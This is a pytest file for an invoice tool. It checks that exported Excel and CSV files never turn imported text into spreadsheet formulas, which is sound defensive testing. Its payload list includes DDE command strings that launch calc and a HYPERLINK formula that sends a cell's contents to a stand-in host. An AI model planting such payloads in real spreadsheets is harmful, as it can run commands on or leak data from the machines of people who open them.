"""Formula injection: what a file holds never becomes a formula in anything that we write, here and in a spreadsheet (X-16)."""

import re
import shutil
import subprocess
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from invoice_rules import examine
from invoice_rules.cli import app
from invoice_rules.exporting import write_csv
from invoice_rules.workbooks import error_workbook, table_csv, table_workbook
from tests.making import RECEIVABLES, mapped, receivable, table

OWN = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "@SUM(1+9)*cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"y")', '=WEBSERVICE("http://x.example")',
    "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", 'DDE("cmd";"/C calc";"!A0")A0', "=1+1;=2+2", '=1+1",=2+2', '";=1+1;"', '","=1+1', "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1", "\x0b=1+1", "\x85=1+1", "'=1+1", "''=1+1", '"=1+1"', "{=1+1}", "{=SUM(A1:A2)}", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)",
    "%0A=1+1", "=A1", "+A1", "-A1", "==1", "=-1", "--1", "+-1", "=\n1+1", "a\n=1+1", "a\r\n=1+1", "a,=1+1", "a;=1+1", "a\t=1+1", "x=1+1", "=TRUE()", "of:=1+1", "_x003D_1+1", "&#61;1+1", "]]><f>1+1</f>",
    "</t></is></c><c r=\"A9\"><f>1+1</f></c>", "</text:p><table:table-cell table:formula=\"of:=1+1\"/>", "#N/A", "TRUE", "1E5", "007", "http://x.example/", "mailto:a@b.co?subject==1",
)  # fmt: skip
FORMULA = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}formula"


@pytest.fixture
def payloads(shared_data) -> list[str]:
    known = (shared_data / "strings" / "csv-payload.txt").read_text(encoding="utf-8").splitlines()
    return [*OWN, *(line for line in known if line and line not in OWN)]


@pytest.fixture
def written(payloads, tmp_path) -> list[Path]:
    """Every kind of file that we write, each full of payloads: as cells, headings, names of files and senders."""
    return [*written_listings(payloads, tmp_path), *written_errors(payloads, tmp_path), *written_by_commands(payloads, tmp_path)]


def written_listings(payloads: list[str], folder: Path) -> list[Path]:
    frame = pd.DataFrame(dict.fromkeys(payloads[:20], payloads) | {"text": pd.Series(payloads, dtype="str"), "n": range(len(payloads))})
    return [table_workbook(frame, folder / "list.xlsx", "=1+1"), table_csv(frame, folder / "list as text.csv"), write_csv(frame, folder / "list by columns as text.csv", {})]


def written_errors(payloads: list[str], folder: Path) -> list[Path]:
    """Each payload in each field and in a column of the sender's, under a heading and from a file that are payloads too."""
    rows = [receivable(n, **{"=1+1": payload, "note": payload}) | {field: payload} for n, (payload, field) in enumerate((p, f) for p in payloads for f in RECEIVABLES.fields if f in receivable())]
    made = table(rows, name="=cmd.csv")
    return [error_workbook(examine(made, RECEIVABLES, mapped(made.headings), sender="=1+1"), folder)]


def written_by_commands(payloads: list[str], folder: Path) -> list[Path]:
    """What goes into the store inside texts, and out of it again: listings of invoices as files."""
    inside = [payload for payload in payloads if not re.search(r"^[\s'\"\ufeff\x00]*[=+@\-＝＋－＠]|--|=cmd|=sum|=vlookup|[\x00-\x1f\x7f-\x9f\u200b]", payload, re.I)]
    rows = [receivable(n, customerName=payload[:50], invoiceNumber=f"{n} {payload}"[:40]) for n, payload in enumerate(inside)]
    source, store = folder / "in.csv", folder / "books.db"
    pd.DataFrame(rows).to_csv(source, index=False)
    asked = ["--store", f"sqlite:///{store}"]
    done = CliRunner().invoke(app, [*asked, "import", str(source), "--rules", "paystand.receivables", "--yes"])
    assert "created" in done.output or "imported" in done.output.lower(), done.output
    files = [folder / "out as text.csv", folder / "out.xlsx"]
    for file in files:
        done = CliRunner().invoke(app, [*asked, "invoices", "--out", str(file)])
        assert file.is_file(), done.output
    return files


def test_no_cell_is_a_formula(written):
    """openpyxl takes no cell for a formula, and no workbook has a link."""
    workbooks = [path for path in written if path.suffix == ".xlsx"]
    assert len(workbooks) == 3
    for path in workbooks:
        for sheet in openpyxl.load_workbook(path):
            kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
            assert kinds <= {"s", "n", "b", "d"}, (path.name, sheet.title)
            assert not any(cell.hyperlink for row in sheet.iter_rows() for cell in row)


def test_each_payload_comes_back_as_text(payloads, tmp_path):
    path = written_listings(payloads, tmp_path)[0]
    cells = [str(row[20]) for row in openpyxl.load_workbook(path).active.iter_rows(min_row=2, values_only=True)]
    for cell, payload in zip(cells, payloads, strict=True):
        if payload.isprintable() and "_x" not in payload:
            assert cell == payload


def _nightly_without(tool: str):
    """Where a program is missing the test waits for `make nightly`, which says so."""
    return (lambda test: test) if shutil.which(tool) else pytest.mark.nightly


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
@_nightly_without("soffice")
def test_calc_opens_no_formula(written, tmp_path):
    """Calc itself makes no formula of any of the files, and finds those of a file that has one."""
    control = tmp_path / "control.xlsx"
    book = openpyxl.Workbook()
    book.active["A1"] = "=1+1"
    book.save(control)
    out = tmp_path / "flat"
    files = [str(path) for path in (*written, control)]
    subprocess.run(
        ["soffice", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless", "--convert-to", "fods", "--outdir", str(out), *files],
        check=True, capture_output=True, timeout=300,
    )  # fmt: skip
    formulas = {path.stem: sum(FORMULA in element.attrib for _, element in ElementTree.iterparse(path)) for path in out.iterdir()}
    assert formulas.pop("control") == 1
    assert formulas.keys() == {path.stem for path in written}
    assert not any(formulas.values()), formulas
